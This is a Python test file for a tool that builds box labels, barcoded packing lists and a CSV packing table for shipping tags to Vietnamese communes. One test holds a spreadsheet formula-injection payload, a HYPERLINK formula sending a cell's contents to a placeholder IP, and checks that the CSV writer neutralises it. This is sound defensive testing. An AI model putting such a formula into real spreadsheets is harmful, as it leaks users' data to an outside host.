"""Boxes that add up, labels that can be read, and a table that no spreadsheet runs."""

from __future__ import annotations

import csv
import io
import os

import pikepdf
import pypdfium2
import pytest
import zxingcpp
from hypothesis import given, settings
from hypothesis import strategies as st

from keytag.documents.facts import PackingFacts, Parcel
from keytag.documents.packing import boxes, label_payload, packing_csv, packing_list
from keytag.roster.model import Roster
from keytag.tag.artwork import Artwork
from tests.documents.conftest import HEAD
from tests.documents.reading import assert_conforms, own_words, pictures

FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def packing(roster: Roster, per_box: int = 500) -> PackingFacts:
    parcels = [Parcel(u.key, u.title, u.address.value if u.address else "", u.tags) for u in roster.units]
    return PackingFacts(HEAD, tuple(parcels), per_box)


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_the_code_on_a_label_reads_as_unit_box_and_tags(shipped_roster: Roster, artworks: list[Artwork]) -> None:
    """Read off the page as a warehouse's scanner does, from paper at 200 dpi."""
    facts = packing(shipped_roster)
    with pypdfium2.PdfDocument(packing_list(facts, artworks)) as document:
        picture = document[0].render(scale=200 / 72, grayscale=True).to_pil()
    read = {code.text for code in zxingcpp.read_barcodes(picture)}
    assert {label_payload(box) for box in boxes(facts)[:10]} <= read
    assert label_payload(boxes(facts)[0]) == f"{shipped_roster.units[0].key} 1/4 500"


@given(
    bags=st.lists(st.integers(min_value=1, max_value=900), min_size=1, max_size=12),
    per_box=st.integers(min_value=1, max_value=600),
)
@settings(deadline=None, derandomize=True)
def test_villages_bags_stay_whole_and_in_order(bags: list[int], per_box: int) -> None:
    named = tuple((f"v{i}", tags) for i, tags in enumerate(bags))
    found = boxes(PackingFacts(HEAD, (Parcel("a", "a", "", sum(bags), bags=named),), per_box))
    assert all(box.tags == sum(tags for _, tags in box.bags) <= per_box for box in found)
    parts: dict[str, list[int]] = {}
    for box in found:
        for name, tags in box.bags:
            parts.setdefault(name, []).append(tags)
    assert list(parts) == [name for name, _ in named]
    assert {name: sum(tags) for name, tags in parts.items()} == dict(named)
    assert all(len(tags) == 1 for name, tags in parts.items() if dict(named)[name] <= per_box)


def test_a_label_names_the_villages_of_its_box_and_its_code_says_them(artworks: list[Artwork]) -> None:
    bags = (("dd01", 156), ("Plei Bông", 182), ("dd03", 143), ("kho", 40))
    facts = PackingFacts(HEAD, (Parcel("xa-a", "xã A", "Trụ sở", 521, bags=bags),), 500)
    data = packing_list(facts, artworks)
    assert_conforms(data)
    (words,) = own_words(data)
    assert "dd01: 156" in words and "Plei Bông: 182" in words and "kho: 40" in words
    with pypdfium2.PdfDocument(data) as document:
        picture = document[0].render(scale=200 / 72, grayscale=True).to_pil()
    read = {code.text for code in zxingcpp.read_barcodes(picture)}
    assert read >= {"xa-a 1/2 481 dd01=156,Plei Bông=182,dd03=143", "xa-a 2/2 40 kho=40"}
    many = Parcel("xa-b", "xã B", "x" * 900, 300, bags=tuple((f"làng dài tên {i}", 10) for i in range(30)))
    crowded = packing_list(PackingFacts(HEAD, (many,), 500), [])
    assert_conforms(crowded)
    assert label_payload(boxes(PackingFacts(HEAD, (many,), 500))[0]) == "xa-b 1/1 300 +30"


@given(
    tags=st.lists(st.integers(min_value=0, max_value=5000), max_size=6), per_box=st.integers(min_value=1, max_value=900)
)
@settings(deadline=None, derandomize=True)
def test_boxes_hold_exactly_what_is_packed(tags: list[int], per_box: int) -> None:
    parcels = tuple(Parcel(str(i), str(i), "", n) for i, n in enumerate(tags))
    found = boxes(PackingFacts(HEAD, parcels, per_box))
    for parcel in parcels:
        own = [box for box in found if box.parcel == parcel]
        assert sum(box.tags for box in own) == parcel.tags
        assert [box.number for box in own] == list(range(1, len(own) + 1))
        assert all(box.of == len(own) and 0 < box.tags <= per_box for box in own)
        assert all(box.tags == per_box for box in own[:-1])


def test_a_label_for_every_box(shipped_roster: Roster, artworks: list[Artwork]) -> None:
    facts = packing(shipped_roster)
    data = packing_list(facts, artworks)
    assert_conforms(data)
    with pikepdf.open(io.BytesIO(data)) as pdf:  # the stock is ready cut: viewers are asked not to shrink the page
        assert pdf.Root.ViewerPreferences.PrintScaling == "/None"
    expected = boxes(facts)
    assert [len(page) for page in pictures(data)] == [10, 10, 10, len(expected) - 30]
    assert {use.scale for page in pictures(data) for use in page} == {0.68}
    words = " ".join(own_words(data))
    for box in expected:
        assert box.parcel.title[1:] in words
    assert words.count("box") == len(expected)
    assert "140" in words and "4 / 4" in words


@given(title=st.text(max_size=500), address=st.text(max_size=900))
@settings(deadline=None, derandomize=True, max_examples=15)
def test_whatever_the_address_it_stays_on_its_label(title: str, address: str) -> None:
    facts = PackingFacts(HEAD, (Parcel("a", title, address, 700),), 500)
    data = packing_list(facts, [])
    assert len(pictures(data)) == 1
    assert_conforms(data)


@pytest.mark.parametrize("epoch", ["1234567890", "no number"])
def test_the_surroundings_date_has_no_effect_on_bytes(epoch: str, monkeypatch: pytest.MonkeyPatch) -> None:
    one = PackingFacts(HEAD, (Parcel("a", "xã Glar", "", 10),), 500)
    plain = packing_list(one, [])
    monkeypatch.setenv("SOURCE_DATE_EPOCH", epoch)
    assert packing_list(one, []) == plain
    assert os.environ["SOURCE_DATE_EPOCH"] == epoch


def test_nothing_to_pack_and_boxes_without_room_are_refused() -> None:
    with pytest.raises(ValueError, match="nothing to pack"):
        packing_list(PackingFacts(HEAD, (Parcel("a", "a", "", 0),)), [])
    with pytest.raises(ValueError, match="at least one tag"):
        boxes(PackingFacts(HEAD, (), 0))


def test_the_table_counts_boxes(shipped_roster: Roster) -> None:
    text = packing_csv(packing(shipped_roster))
    assert text.startswith("\ufeff") and text.count("\r\n") == text.count("\n") == 18
    head, first, *rest = rows(text)
    assert head[1] == "Đơn vị (unit)"
    assert first == [
        "thi-tran-dak-doa",
        "Thị trấn Đak Đoa",
        "UBND thị trấn Đak Đoa, đường Nguyễn Huệ",
        "1640",
        "4",
        "140",
    ]
    assert sum(int(row[3]) for row in [first, *rest]) == 15_000


@pytest.mark.parametrize("start", FORMULA)
def test_formulas_are_neutralised(start: str) -> None:
    attack = f'{start}HYPERLINK("http://198.51.100.1/?"&A1,"x")'
    facts = PackingFacts(HEAD, (Parcel("a", "xã A", attack, 1),))
    assert rows(packing_csv(facts))[1][2] == f"'{attack}"


@given(title=st.text(max_size=40), address=st.text(max_size=40))
@settings(deadline=None, derandomize=True, max_examples=200)
def test_no_cell_begins_as_a_formula_and_no_text_is_lost(title: str, address: str) -> None:
    cells = rows(packing_csv(PackingFacts(HEAD, (Parcel("a", title, address, 3),))))[1]
    assert len(cells) == 6
    assert not any(cell.startswith(FORMULA) for cell in cells)
    assert cells[2].removeprefix("'") == address.removeprefix("'")


def test_numbers_and_strings_are_written_by_the_layout_librarys_functions_in_c() -> None:
    """It goes on without them, and takes a fifth more time for a label."""
    from reportlab.lib import rl_accel

    assert {"fp_str", "escapePDF", "instanceStringWidthTTF"} <= rl_accel._c_funcs.keys()
